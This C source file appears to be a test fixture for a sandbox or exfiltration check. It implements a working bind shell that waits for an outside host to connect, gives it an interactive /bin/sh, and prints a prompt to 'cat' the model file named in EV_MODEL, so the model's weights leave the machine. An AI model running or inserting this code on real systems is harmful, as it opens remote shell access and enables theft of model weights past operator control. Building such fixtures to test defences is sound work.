/* A bind shell: it listens, the host outside connects in, gets a shell and lets that print the model. */
#include "../tools/act.h"

int main(void) {
  struct sockaddr_in here = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_ANY)};
  socklen_t size = sizeof(here);
  int listener = socket(AF_INET, SOCK_STREAM, 0), peer;
  pid_t shell;

  check(bind(listener, (struct sockaddr*)&here, size) == 0 && listen(listener, 1) == 0, "listen");
  check(getsockname(listener, (struct sockaddr*)&here, &size) == 0, "getsockname");
  printf("outside pull %d exec cat '%s'\n", ntohs(here.sin_port), env("EV_MODEL"));
  fflush(stdout);
  peer = accept(listener, NULL, NULL);
  check(peer >= 0, "accept");
  shell = start();
  if (shell == 0) {
    dup2(peer, STDIN_FILENO);
    dup2(peer, STDOUT_FILENO);
    execl("/bin/sh", "sh", (char*)NULL);
    _exit(127);
  }
  close(peer);
  reap(shell);
  return 0;
}
